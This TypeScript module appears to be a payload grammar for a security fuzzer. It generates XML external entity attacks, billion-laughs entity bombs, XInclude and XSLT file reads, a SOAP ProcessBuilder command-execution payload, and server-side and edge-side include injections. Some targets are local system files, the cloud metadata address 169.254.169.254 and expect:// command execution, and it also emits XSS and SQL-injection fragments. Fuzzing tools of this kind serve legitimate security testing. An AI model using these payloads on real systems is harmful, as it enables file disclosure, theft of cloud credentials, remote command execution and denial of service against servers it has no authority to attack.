/** XML external entities and XML injection, server-side includes, edge-side includes. */

import { grammar, lines } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { SHELL } from "./shell.ts";

const RULES = grammar({
  ...SHELL,
  xxe: [
    ["«xml?»«doctype»«body»", 10],
    ["«xml»«soap»", 2],
    ["«fragment»", 5],
  ],
  xml: [
    '<?xml version="1.0"?>',
    '<?xml version="1.0" encoding="«UTF-8|ISO-8859-1|utf-8|UTF-16|UTF-7»"?>',
    "<?xml version='1.0'?>",
    '<?xml version="1.0" standalone="«no|yes»"?>',
  ],
  doctype: lines`
    <!DOCTYPE «r=ident» [<!ENTITY «e=rnd2» SYSTEM "«res»">]>
    <!DOCTYPE «r=ident» [ <!ELEMENT «$r» ANY > <!ENTITY «e=rnd2» SYSTEM "«res»" >]>
    <!DOCTYPE «r=ident» [<!ENTITY % «e=rnd2» SYSTEM "«res»"> %«$e»;]>
    <!DOCTYPE «r=ident» [<!ENTITY % «e=rnd2» SYSTEM "«res»">%«$e»;%«rnd2»;]>
    <!DOCTYPE «r=ident» PUBLIC "-//«rnd»//«rnd»" "«res»">
    <!DOCTYPE «r=ident» SYSTEM "«res»">
    <!DOCTYPE «r=ident» [<!ENTITY «e=rnd2» PUBLIC "«rnd»" "«res»">]>
    <!DOCTYPE «r=ident» [<!ENTITY «e=rnd2» "«rnd»"><!ENTITY «rnd2»1 "&«$e»;&«$e»;&«$e»;&«$e»;&«$e»;"><!ENTITY «rnd2»2 "&«rnd2»1;&«rnd2»1;">]>
    <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
    <!DOCTYPE «r=ident» [<!ENTITY % a "<!ENTITY &#37; b SYSTEM '«res»'>">%a;%b;]>`,
  res: [
    "file://«unixfile»",
    "file://«unixfile»",
    "file:///«letter»:/«winfile»",
    "«url»",
    "http://«host»/«rnd».dtd",
    "php://filter/«read=|»convert.base64-encode/resource=««unixfile»|index.php|«url»»",
    "expect://«look»",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:«port»/",
    "netdoc:«unixfile»",
    "jar:«url»!/«rnd»",
    "gopher://«host»/«rnd»",
    "ftp://«host»:«port»/%«rnd2»;",
    "data://text/plain;base64,«base64»",
    "\\\\«host»\\«rnd»",
    "«rnd».dtd",
    "https://«rndmix».«oastword»",
  ],
  body: [
    "<«$r»>&«$e»;</«$r»>",
    "<«$r»><«rnd»>&«$e»;</«rnd»></«$r»>",
    "<«rnd»>&«$e»;</«rnd»>",
    "<«$r»/>",
    "«»",
    "<«$r»>«rnd»</«$r»>",
  ],
  soap: [
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><«rnd»><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "«res»"> %dtd;]>]]></«rnd»></soap:Body></soap:Envelope>',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String"><void index="0"><string>«look»</string></void></array></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>',
  ],
  fragment: lines`
    <!ENTITY «rnd2» SYSTEM "«res»">
    <!ENTITY % «rnd2» SYSTEM "«res»">
    <!DOCTYPE «rnd» [<!ENTITY
    %«rnd2»;]>
    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="«res»"/>
    <«rnd2» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«res»"/></«rnd2»>
    <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="«document('«unixfile»')|system-property('xsl:vendor')|php:function('«passthru|system»','«look»')»"/></xsl:template></xsl:stylesheet>
    <xsl:copy-of select="document('«unixfile»')"/>
    <?xml-stylesheet type="text/xml" href="«url»"?>
    <![CDATA[<]]>«rnd»<![CDATA[>]]>alert(«int»)<![CDATA[<]]>/«rnd»<![CDATA[>]]>
    <![CDATA[«'|"|or 1=1|<script>alert(«int»)</script>»]]>
    ]]><«rnd»>«rnd»</«rnd»><![CDATA[
    «rnd»</«v=rnd»><«noun»>«admin|«int»»</«noun»><«$v»>
    <foo xmlns="http://www.w3.org/1999/xhtml"><script>alert(«int»)</script></foo>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«expect://«look»|«url»»"></image></svg>
    <methodCall><methodName>«system.multicall|system.listMethods|pingback.ping|wp.getUsersBlogs»</methodName><params></params></methodCall>
    <definitions xmlns="http://schemas.xmlsoap.org/wsdl/"><import location="«url»"/></definitions>
    <?xml version="1.0"?><«rnd»><«rnd»>' or '1'='1</«rnd»></«rnd»>
    <!--«#|»«rnd»--><!DOCTYPE «rnd»>
    xmlns:«rnd2»="«url»"`,
  ssi: lines`
    <!--#exec cmd="«unix»"-->
    <!--#exec cmd="«look»" -->
    <!--#exec cmd="«winlook»"-->
    <!--#exec cgi="«|/cgi-bin/»«rnd».«cgi|pl|sh»"-->
    <!--#include «virtual|file»="««unixfile»|/index.«shtml|html»|«rnd».«ext»»" -->
    <!--#include virtual="«unixfile»"-->
    <!--#include file="../../«rnd».conf"-->
    <!--#echo var="«DATE_LOCAL|DOCUMENT_NAME|HTTP_USER_AGENT|REMOTE_ADDR|LAST_MODIFIED|auth_type|QUERY_STRING|PATH|SERVER_SOFTWARE|«Rnd»»"-->
    <!--#printenv-->
    <!--#printenv -->
    <!--#config «errmsg|timefmt|sizefmt»="«rnd»"-->
    <!--#«flastmod|fsize» «file|virtual»="«rnd».«ext»"-->
    <!--#set var="«rnd»" value="«rnd»" -->
    <!--#if expr="«rnd»" -->
    <!--#odbc connect="«rnd»,«rnd»,«rnd»"-->
    <!--#«exec|EXEC|Exec» «cmd|CMD»='«unix»'-->
    «'|"»><!--#exec cmd="«look»"--><
    <!--#«rnd» «rnd»="«rnd»" -->
    <esi:include src="«url»"/>
    <esi:include src=«url» />
    <esi:include src="«http://127.0.0.1:«port»/«rnd»|/«rnd»»" stylesheet="«url»"/>
    <esi:include alt="«url»" src="«url»" onerror="continue"/>
    <esi:inline name="/«rnd».html" fetchable="yes"><script>alert(«int»)</script></esi:inline>
    <esi:vars>$(«HTTP_COOKIE|HTTP_HOST|QUERY_STRING{«rnd»}|REMOTE_ADDR»)</esi:vars>
    <esi:assign name="«rnd2»" value="'«rnd»'"/>
    <esi:debug/>
    <!--esi $add_header('Location','«url»') -->
    <!--esi $(HTTP_COOKIE) -->
    <esi:remove>«rnd»</esi:remove>
    «rnd»<!--esi-->«rnd»
    <esi:comment text="«rnd»"/>
    <?php system('«look»')?><!--#exec cmd="«look»"-->`,
});

/** XML external entities, entity bombs, injected elements. */
export const xxe = (rng: Random) => RULES(rng, "xxe");
/** Server-side and edge-side includes. */
export const ssi = (rng: Random) => RULES(rng, "ssi");
